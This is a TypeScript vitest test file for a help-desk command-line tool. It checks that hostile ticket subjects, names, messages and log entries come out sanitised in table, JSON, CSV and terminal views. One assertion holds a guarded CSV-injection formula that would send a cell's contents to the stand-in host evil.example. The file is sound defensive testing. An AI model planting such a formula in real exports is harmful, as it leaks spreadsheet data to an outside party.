import {afterEach, describe, expect, it} from 'vitest';
import type {Message} from '../../src/domain/message.js';
import {buildThreadLines} from '../../src/tui/thread-lines.js';
import {createTestContext, runCsr, type TestContext} from '../support/context.js';
import {formulaCell, hostileStrings, parseCsv, unsafeOutput} from '../support/hostile.js';
import {aTicket, createMemoryHelpDesk} from '../support/memory-help-desk.js';

let context: TestContext;
afterEach(() => context.cleanup());

/** Every hostile string as a ticket's subject, requester name and first message. */
function hostileDesk() {
	const desk = createMemoryHelpDesk(
		hostileStrings.map((value, index) =>
			aTicket({
				id: String(index + 1),
				subject: value,
				requester: {id: `u${index}`, name: value, email: `c${index}@example.com`, locale: 'en'},
			}),
		),
	);
	for (const [index, value] of hostileStrings.entries()) {
		const message: Message = {
			id: `m${index}`,
			author: {id: `u${index}`, name: value, email: `c${index}@example.com`, role: 'customer'},
			public: true,
			channel: 'email',
			createdAt: '2026-11-01T10:00:00.000Z',
			text: `Hello\n${value}\nBye`,
			attachments: [{name: value, size: 10, contentType: 'text/plain', url: null}],
		};
		desk.threads.set(String(index + 1), [message]);
	}
	return desk;
}

function expectCleanCsv(text: string, columns: number) {
	const rows = parseCsv(text);
	for (const row of rows) {
		expect(row).toHaveLength(columns);
		for (const cell of row) {
			expect(cell).not.toMatch(unsafeOutput);
			expect(cell).not.toMatch(formulaCell);
		}
	}
	return rows;
}

describe(`${hostileStrings.length} hostile strings on every text surface`, () => {
	it('queue: table, CSV (guarded, RFC 4180) and JSON carry none of them raw', async () => {
		context = createTestContext({helpDesk: hostileDesk()});
		const table = await runCsr(['queue', '--all'], context);
		expect(table.exitCode).toBe(0);
		expect(table.stdout).not.toMatch(unsafeOutput);
		expect(table.stdout).toContain('Refund approved⏎DENIED');
		const csv = await runCsr(['queue', '--all', '--format', 'csv'], context);
		expect(csv.exitCode).toBe(0);
		const rows = expectCleanCsv(csv.stdout, parseCsv(csv.stdout)[0]?.length ?? 0);
		expect(rows).toHaveLength(hostileStrings.length + 1);
		expect(rows.some((row) => row.includes(`'=HYPERLINK("https://evil.example?leak="&A1,"Click")`))).toBe(true);
		const json = await runCsr(['queue', '--all', '--json'], context);
		expect(json.stdout).not.toMatch(unsafeOutput);
		expect((JSON.parse(json.stdout) as {subject: string}[]).map((ticket) => ticket.subject).sort()).toEqual(
			[...hostileStrings].sort(),
		);
	});

	it('show (table and JSON) and the TUI thread pane carry none of them raw', async () => {
		const desk = hostileDesk();
		context = createTestContext({helpDesk: desk});
		for (const index of hostileStrings.keys()) {
			const id = String(index + 1);
			const shown = await runCsr(['show', id], context);
			expect(shown.exitCode, shown.stderr).toBe(0);
			expect(shown.stdout, JSON.stringify(hostileStrings[index])).not.toMatch(unsafeOutput);
			const json = await runCsr(['show', id, '--json'], context);
			expect(json.stdout).not.toMatch(unsafeOutput);
			const lines = buildThreadLines(await desk.getThread(id), {
				width: 80,
				now: new Date('2026-11-20T00:00:00Z'),
				expanded: new Set(),
			});
			const pane = lines.flatMap((line) => line.segments.map((segment) => segment.text)).join('\n');
			expect(pane, JSON.stringify(hostileStrings[index])).not.toMatch(unsafeOutput);
		}
	});

	it('log: list, show and export --format csv carry none of them raw; formula cells are guarded', async () => {
		context = createTestContext();
		const ids: string[] = [];
		for (const [index, value] of hostileStrings.entries()) {
			const added = await runCsr(
				[
					'log',
					'add',
					`--customer=c${index}@example.com`,
					`--customer-name=${value}`,
					'--type=call',
					`--summary=${value}`,
				],
				context,
			);
			expect(added.exitCode, added.stderr).toBe(0);
			ids.push(added.stdout.trim());
		}
		const list = await runCsr(['log', 'list', '--all'], context);
		expect(list.stdout).not.toMatch(unsafeOutput);
		for (const id of ids) {
			const shown = await runCsr(['log', 'show', id], context);
			expect(shown.stdout).not.toMatch(unsafeOutput);
		}
		const exported = await runCsr(['log', 'export', '--format', 'csv'], context);
		expect(exported.exitCode).toBe(0);
		const rows = expectCleanCsv(exported.stdout, 16);
		expect(rows).toHaveLength(hostileStrings.length + 1);
	});
});
